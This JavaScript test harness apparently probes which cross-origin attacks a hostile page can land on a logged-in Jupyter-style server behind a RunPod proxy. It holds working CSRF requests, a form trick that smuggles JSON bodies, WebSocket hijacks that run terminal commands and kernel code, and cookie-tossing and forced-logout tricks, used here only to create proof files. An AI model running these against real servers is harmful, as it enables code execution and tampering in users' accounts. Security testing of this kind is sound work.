// What a hostile page can try against `pod` (an origin) while its user is logged in there. Served by a sibling
// pod and by a foreign site. Every attack returns, once settled, what the page got to know: `read` is text of the
// pod's that it could read, `opened` says that a connection came up. What it *did* is judged on the pod.
"use strict";

const settled = async (promise) => {
  try {
    const response = await promise;
    return { status: response.status, read: response.type === "opaque" ? "" : await response.text() };
  } catch (error) {
    return { error: String(error) };
  }
};

// text/plain: a "simple" request, sent without asking the pod first (no preflight).
const blind = (url, body) =>
  settled(fetch(url, { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body }));

const asked = (url, method, body) => settled(fetch(url, { method, credentials: "include", body }));

const xhr = (url, method, body, type) =>
  new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    request.setRequestHeader("Content-Type", type);
    request.onloadend = () => resolve({ status: request.status, read: request.responseText });
    request.send(body);
  });

// Opens, sends, stays long enough for the pod to act on it, closes.
const socket = (url, ...messages) =>
  new Promise((resolve) => {
    const connection = new WebSocket(url.replace("https:", "wss:"));
    const told = { opened: false, read: "" };
    connection.onopen = () => {
      told.opened = true;
      messages.forEach((message) => connection.send(message));
      setTimeout(() => connection.close(), messages.length ? 2500 : 200);
    };
    connection.onmessage = (event) => { told.read += event.data; };
    connection.onclose = () => resolve(told);
  });

const frame = (url) =>
  new Promise((resolve) => {
    const element = document.createElement("iframe");
    element.onload = () => {
      let read = "";
      try { read = element.contentDocument.documentElement.outerHTML; } catch { /* as it should be */ }
      resolve({ read });
    };
    element.src = url;
    document.body.append(element);
  });

// <form enctype="text/plain"> sends `name=value`; a name that is the start of JSON and a value that is its end
// make a JSON body.
const form = (url, json, enctype, target) => {
  const element = document.createElement("form");
  Object.assign(element, { method: "POST", action: url, enctype, target });
  const input = document.createElement("input");
  const cut = json.lastIndexOf('"}');
  Object.assign(input, { type: "hidden", name: `${json.slice(0, cut)}", "x": "`, value: '"}' });
  element.append(input);
  document.body.append(element);
  element.submit();
};

const element = (tag, attributes) =>
  new Promise((resolve) => {
    const made = document.createElement(tag);
    made.onload = made.onerror = () => resolve({});
    Object.assign(made, attributes);
    document.body.append(made);
  });

const newFile = (name) => JSON.stringify({ type: "file", ext: `.${name}` });
const execute = (code) => {
  const header = { msg_id: "a1", username: "", session: "s", msg_type: "execute_request", version: "5.3" };
  const content = { code, silent: false, store_history: false, user_expressions: {}, allow_stdin: false };
  return JSON.stringify({ header, parent_header: {}, metadata: {}, content, channel: "shell", buffers: [] });
};

// at: {pod, name, terminal, kernel, proof, victim}; `name` is unique to this attempt, `proof` a path to create.
const attacks = {
  "fetch POST a new file": (at) => blind(`${at.pod}/api/contents`, newFile(at.name)),
  "fetch POST a copy": (at) => blind(`${at.pod}/api/contents/${at.name}`, JSON.stringify({ copy_from: at.victim })),
  "fetch PUT a file": (at) => asked(`${at.pod}/api/contents/${at.name}`, "PUT", JSON.stringify({ type: "file", format: "text", content: "x" })),
  "XHR PUT a file": (at) => xhr(`${at.pod}/api/contents/${at.name}`, "PUT", JSON.stringify({ type: "file", format: "text", content: "x" }), "application/json"),
  "XHR POST a new file": (at) => xhr(`${at.pod}/api/contents`, "POST", newFile(at.name), "text/plain"),
  "beacon POST a new file": async (at) => {
    navigator.sendBeacon(`${at.pod}/api/contents`, newFile(at.name));
    return blind(`${at.pod}/api/contents/no-such-folder`, "{}"); // settles after the beacon
  },
  "fetch DELETE a file": (at) => asked(`${at.pod}/api/contents/${at.victim}`, "DELETE"),
  "fetch PATCH (rename) a file": (at) => asked(`${at.pod}/api/contents/${at.victim}`, "PATCH", JSON.stringify({ path: at.name })),
  "fetch POST a terminal": (at) => blind(`${at.pod}/api/terminals`, ""),
  "fetch POST a kernel": (at) => blind(`${at.pod}/api/kernels`, ""),
  "fetch POST a session": (at) => blind(`${at.pod}/api/sessions`, JSON.stringify({ path: at.name, name: at.name, type: "file", kernel: { name: "python3" } })),
  "fetch POST shutdown": (at) => blind(`${at.pod}/api/shutdown`, ""),
  "WebSocket to a terminal": (at) => socket(`${at.pod}/terminals/websocket/${at.terminal}`, JSON.stringify(["stdin", `touch ${at.proof}\r`])),
  "WebSocket to a kernel": (at) => socket(`${at.pod}/api/kernels/${at.kernel}/channels`, execute(`open(${JSON.stringify(at.proof)}, "w")`)),
  "WebSocket to the events": (at) => socket(`${at.pod}/api/events/subscribe`),
  "EventSource": (at) =>
    new Promise((resolve) => {
      const source = new EventSource(`${at.pod}/api/events/subscribe`, { withCredentials: true });
      source.onopen = () => resolve({ opened: true });
      source.onerror = () => resolve({ opened: false });
    }),
  "fetch the page with the token": (at) => asked(`${at.pod}/lab`, "GET"),
  "fetch a listing": (at) => asked(`${at.pod}/api/contents`, "GET"),
  "fetch a file": (at) => asked(`${at.pod}/files/${at.victim}`, "GET"),
  "script from a file": async (at) => {
    await element("script", { src: `${at.pod}/files/script.js` });
    return { read: String(window.stolen ?? "") };
  },
  "iframe": (at) => frame(`${at.pod}/lab`),
  "image logs out": (at) => element("img", { src: `${at.pod}/logout` }),
  "fetch POST with a bad token": (at) => blind(`${at.pod}/api/contents?token=wrong`, "{}"),
  "form POST in an iframe": (at) =>
    new Promise((resolve) => {
      document.querySelector("iframe[name=target]").onload = () => resolve({});
      form(`${at.pod}/api/contents`, newFile(at.name), "text/plain", "target");
    }),
};

// These leave the page; the browser shows the pod's answer. at.cookie: the login cookie's name, no secret.
const departures = {
  "form POST a new file": (at) => form(`${at.pod}/api/contents`, newFile(at.name), "text/plain", "_self"),
  "form POST a terminal": (at) => form(`${at.pod}/api/terminals`, newFile(at.name), "text/plain", "_self"),
  "form POST a kernel": (at) => form(`${at.pod}/api/kernels`, newFile("x"), "text/plain", "_self"),
  "tossed XSRF cookie, form POST": (at) => {
    document.cookie = "_xsrf=tossed; domain=proxy.runpod.net; path=/; secure";
    form(`${at.pod}/api/contents?_xsrf=tossed`, newFile(at.name), "text/plain", "_self");
  },
  "tossed login cookie logs out": (at) => {
    for (const path of ["/", "/lab", "/api"]) document.cookie = `${at.cookie}=garbage; domain=proxy.runpod.net; path=${path}; secure`;
    location.href = `${at.pod}/lab`;
  },
  "tossed login cookie with a Unicode space logs out": (at) => {
    for (const space of ["\u00a0", "\u2003", "\u0085"])
      document.cookie = `${space}${at.cookie}=garbage; domain=proxy.runpod.net; path=/; secure`;
    location.href = `${at.pod}/lab`;
  },
  "link to a file of the user's": (at) => { location.href = `${at.pod}/files/${at.victim}`; },
  "link logs out": (at) => { location.href = `${at.pod}/logout`; },
};
